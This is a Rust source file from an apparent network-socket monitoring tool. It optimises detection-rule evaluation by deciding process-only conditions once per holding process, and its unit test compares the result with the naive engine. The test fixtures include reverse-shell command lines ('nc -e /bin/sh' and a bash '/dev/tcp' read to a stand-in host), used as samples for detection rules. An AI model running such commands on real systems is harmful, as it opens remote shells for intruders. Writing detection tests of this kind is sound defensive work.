//! The per-socket rules' parts that read only the holding process, decided once per holder
//! instead of once per event.
//!
//! A busy process's events differ in their sockets, not in their process: evaluating
//! `process.cmdline contains ...` again for each of them was most of watch's CPU under the load
//! test (docs/PERFORMANCE.md, "Issue 18, session 9": the rules' string searches and the
//! command line joined per event). A rule's top-level conjuncts and its exceptions are split
//! into those that read only the process (and its parent and ancestors) and the rest; an `any`
//! mixing both is decided true once per holder when one of its holder members holds. For each
//! holder the process parts are evaluated once ([`Plan::verdicts`]): a rule one of whose process
//! conjuncts is false, or one of whose process exceptions is true, cannot match any socket of
//! that holder; for the others only the rest is evaluated per event ([`Plan::matches`]). The
//! result is [`crate::engine::matches`]'s (a unit test compares them on the default pack).
//!
//! What counts as "only the process" is stricter than the engine's
//! [`Condition::process_only`]: `process.relays.*` is left per event, because the relays of a
//! one-socket snapshot depend on its socket.

use crate::rules::condition::Condition;
use crate::rules::fields::Subject;
use crate::rules::{Rule, RuleSet};

/// Whether a condition's value depends on the holder alone (the same for every socket it holds
/// in the one-socket snapshots watch builds).
fn holder_only(c: &Condition) -> bool {
    match c {
        Condition::All(v) | Condition::Any(v) => v.iter().all(holder_only),
        Condition::Not(c) => holder_only(c),
        Condition::Pred(p) => {
            let n = p.field.name;
            (n.starts_with("process.") || n.starts_with("parent.")) && !n.contains(".relays.")
        }
        Condition::Ss(_) => false,
    }
}

/// An `any` whose members read the holder alone in part: decided true once per holder when
/// one of those members holds, else by its other members per event.
#[derive(Debug)]
struct Mixed {
    /// Which conjunct or exception it is.
    index: usize,
    /// Its members that read the holder alone, and the others.
    holder: Vec<usize>,
    rest: Vec<usize>,
    /// Where the holder's answer is kept in [`Verdicts`].
    slot: usize,
}

/// A rule's top-level conjuncts (or its exceptions), sorted by what they read.
#[derive(Debug, Default)]
struct Parts {
    holder: Vec<usize>,
    rest: Vec<usize>,
    mixed: Vec<Mixed>,
}

impl Parts {
    fn of(cs: &[Condition], slots: &mut usize) -> Parts {
        let mut p = Parts::default();
        for (i, c) in cs.iter().enumerate() {
            if holder_only(c) {
                p.holder.push(i);
                continue;
            }
            match c {
                Condition::Any(v) if v.iter().any(holder_only) => {
                    let (holder, rest) = (0..v.len()).partition(|&j| holder_only(&v[j]));
                    p.mixed.push(Mixed {
                        index: i,
                        holder,
                        rest,
                        slot: *slots,
                    });
                    *slots += 1;
                }
                _ => p.rest.push(i),
            }
        }
        p
    }
}

/// The members of an `any` (the condition itself otherwise).
fn members(c: &Condition) -> &[Condition] {
    match c {
        Condition::Any(v) => v,
        c => std::slice::from_ref(c),
    }
}

/// One rule, its conditions sorted by what they read.
#[derive(Debug)]
struct RulePlan {
    /// Index in the rule set.
    rule: usize,
    /// The top-level conjuncts of `when`.
    when: Parts,
    /// The exceptions.
    except: Parts,
}

/// The conjuncts of a rule's condition: the members of a top-level `all`, or the condition.
fn conjuncts(rule: &Rule) -> &[Condition] {
    match &rule.doc.when {
        Condition::All(v) => v,
        c => std::slice::from_ref(c),
    }
}

/// The per-socket rules of a rule set, split once when the watch starts.
#[derive(Debug)]
pub struct Plan {
    rules: Vec<RulePlan>,
    slots: usize,
}

/// What one holder decided: which of a [`Plan`]'s rules can still match one of its sockets,
/// and which mixed `any`s its process already satisfies.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Verdicts {
    possible: Vec<bool>,
    mixed: Vec<bool>,
}

impl Plan {
    /// The per-socket rules of `rules` (aggregate rules are not evaluated per event).
    pub fn new(rules: &RuleSet) -> Plan {
        let mut slots = 0;
        let rules = rules
            .rules
            .iter()
            .enumerate()
            .filter(|(_, r)| r.doc.aggregate.is_none())
            .map(|(i, r)| RulePlan {
                rule: i,
                when: Parts::of(conjuncts(r), &mut slots),
                except: Parts::of(&r.doc.exceptions, &mut slots),
            })
            .collect();
        Plan { rules, slots }
    }

    /// Decides the holder parts of every rule for the holder of `x` (its socket is not read).
    pub fn verdicts(&self, rules: &RuleSet, x: &Subject) -> Verdicts {
        let mut mixed = vec![false; self.slots];
        let any_holder = |cs: &[Condition], m: &Mixed| {
            let v = members(&cs[m.index]);
            m.holder.iter().any(|&j| v[j].eval(x))
        };
        let possible = self
            .rules
            .iter()
            .map(|p| {
                let r = &rules.rules[p.rule];
                let (when, except) = (conjuncts(r), &r.doc.exceptions[..]);
                for m in &p.when.mixed {
                    mixed[m.slot] = any_holder(when, m);
                }
                let mut excepted = false;
                for m in &p.except.mixed {
                    mixed[m.slot] = any_holder(except, m);
                    excepted |= mixed[m.slot];
                }
                !excepted
                    && p.when.holder.iter().all(|&i| when[i].eval(x))
                    && !p.except.holder.iter().any(|&i| except[i].eval(x))
            })
            .collect();
        Verdicts { possible, mixed }
    }

    /// Whether a per-socket rule matches `x`, whose holder's [`Verdicts`] are `v`: the
    /// protocol and state masks, then only the conditions that read the socket.
    pub fn matches(&self, rules: &RuleSet, v: &Verdicts, x: &Subject) -> bool {
        let (p, st) = (x.socket.protocol.bit(), x.socket.state.bit());
        // An `any`'s members other than the holder's (which did not hold when `decided` is
        // false).
        let rest = |cs: &[Condition], m: &Mixed| {
            let members = members(&cs[m.index]);
            m.rest.iter().any(|&j| members[j].eval(x))
        };
        self.rules.iter().zip(&v.possible).any(|(plan, &possible)| {
            let r = &rules.rules[plan.rule];
            if !possible || r.protocol_mask & p == 0 || r.state_mask & st == 0 {
                return false;
            }
            let (when, except) = (conjuncts(r), &r.doc.exceptions[..]);
            plan.when.rest.iter().all(|&i| when[i].eval(x))
                && plan
                    .when
                    .mixed
                    .iter()
                    .all(|m| v.mixed[m.slot] || rest(when, m))
                && !plan.except.rest.iter().any(|&i| except[i].eval(x))
                && !plan.except.mixed.iter().any(|m| rest(except, m))
        })
    }
}

/// [`crate::engine::matches`] over every per-socket rule, for the tests' comparison.
#[cfg(test)]
pub fn naive(rules: &RuleSet, x: &Subject) -> bool {
    let (p, st) = (x.socket.protocol.bit(), x.socket.state.bit());
    rules.rules.iter().any(|r| {
        r.doc.aggregate.is_none()
            && r.protocol_mask & p != 0
            && r.state_mask & st != 0
            && crate::engine::matches(r, x)
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::{
        ByteString, Family, Meta, Owner, Process, Protocol, Snapshot, Socket, State,
    };
    use crate::rules::discover::{self, RuleInputs};
    use crate::rules::fields::World;

    fn process(pid: u32, ppid: u32, comm: &str, exe: &str, args: &[&str], uid: u32) -> Process {
        Process {
            pid,
            ppid,
            uid,
            euid: uid,
            comm: ByteString(comm.as_bytes().to_vec()),
            exe: Some(ByteString(exe.as_bytes().to_vec())),
            cmdline: args
                .iter()
                .map(|a| ByteString(a.as_bytes().to_vec()))
                .collect(),
            ..Process::default()
        }
    }

    fn socket(protocol: Protocol, state: State, local: &str, remote: &str) -> Socket {
        let ep = |t: &str| {
            let a: std::net::SocketAddr = t.parse().unwrap();
            Some(crate::model::Endpoint {
                address: a.ip(),
                port: a.port(),
            })
        };
        let mut s = Socket::new(protocol, Family::Inet, state, 0);
        (s.local, s.remote) = (ep(local), ep(remote));
        s
    }

    /// The verdicts of a holder, decided on one of its sockets, give the engine's answer on
    /// every other socket of that holder, for the default pack: holders that match rules by
    /// their process alone (a shell, a program in /tmp, netcat), by process and socket, and
    /// benign ones; sockets that some rules match and others do not.
    #[test]
    fn verdicts_of_one_socket_hold_for_the_holders_other_sockets() {
        let rules = discover::load(&RuleInputs {
            defaults: true,
            paths: &[],
            lists: &[],
            picks: &[],
        })
        .unwrap();
        let plan = Plan::new(&rules);
        let holders = [
            process(100, 1, "bash", "/usr/bin/bash", &["bash", "-i"], 1000),
            process(101, 1, "x", "/tmp/x", &["/tmp/x"], 0),
            process(
                102,
                1,
                "nc",
                "/usr/bin/nc.openbsd",
                &["nc", "-e", "/bin/sh", "h", "1"],
                0,
            ),
            process(103, 1, "sshd", "/usr/sbin/sshd", &["sshd", "-D"], 0),
            process(
                104,
                1,
                "curl",
                "/usr/bin/curl",
                &["curl", "http://h/"],
                1000,
            ),
            process(
                105,
                100,
                "python3",
                "/usr/bin/python3.11",
                &["python3", "-c", "x"],
                1000,
            ),
            // NET-SHL-008's mixed `any`: its own command line, and its parent's.
            process(
                106,
                1,
                "bash",
                "/usr/bin/bash",
                &["bash", "-c", "cat </dev/tcp/h/1"],
                0,
            ),
            process(107, 106, "cat", "/usr/bin/cat", &["cat"], 0),
        ];
        let sockets = [
            socket(
                Protocol::Tcp,
                State::Established,
                "10.0.0.5:41234",
                "203.0.113.10:4444",
            ),
            socket(
                Protocol::Tcp,
                State::Established,
                "10.0.0.5:41235",
                "198.51.100.7:443",
            ),
            socket(
                Protocol::Tcp,
                State::SynSent,
                "10.0.0.5:41236",
                "192.0.2.1:22",
            ),
            socket(Protocol::Tcp, State::Listen, "0.0.0.0:4444", "0.0.0.0:0"),
            socket(Protocol::Tcp, State::Listen, "127.0.0.1:8080", "0.0.0.0:0"),
            socket(
                Protocol::Udp,
                State::Established,
                "10.0.0.5:5353",
                "203.0.113.9:53",
            ),
            socket(Protocol::Udp, State::Close, "0.0.0.0:69", "0.0.0.0:0"),
        ];
        let parent = process(
            1,
            0,
            "systemd",
            "/usr/lib/systemd/systemd",
            &["/sbin/init"],
            0,
        );
        let (mut some, mut none) = (0, 0);
        for h in &holders {
            let mut v = None;
            for s in &sockets {
                let mut s = s.clone();
                s.owners = smallvec::smallvec![Owner { pid: h.pid, fd: 3 }];
                let mut processes = vec![parent.clone(), h.clone()];
                if let Some(p) = holders.iter().find(|p| p.pid == h.ppid) {
                    processes.push(p.clone());
                }
                processes.sort_by_key(|p| p.pid);
                let snap = Snapshot {
                    schema_version: crate::model::SCHEMA_VERSION,
                    meta: Meta::blank("t"),
                    sockets: vec![s],
                    processes,
                    namespaces: Vec::new(),
                    warnings: Vec::new(),
                    gaps: Vec::new(),
                };
                let world = World::of(&snap);
                let label = snap.netns_label(None);
                let process = snap.process(h.pid);
                let x = Subject {
                    socket: &snap.sockets[0],
                    owner: snap.sockets[0].owners.first().copied(),
                    process,
                    parent: process.and_then(|p| snap.process(p.ppid)),
                    ephemeral: snap.ephemeral_ports(),
                    netns: Some(&label),
                    world: Some(&world),
                };
                let v = v.get_or_insert_with(|| plan.verdicts(&rules, &x));
                let want = naive(&rules, &x);
                assert_eq!(
                    plan.matches(&rules, v, &x),
                    want,
                    "{:?} {:?}",
                    h.comm,
                    x.socket
                );
                if want { some += 1 } else { none += 1 }
            }
        }
        assert!(
            some > 3 && none > 3,
            "both answers are exercised: {some} {none}"
        );
    }
}
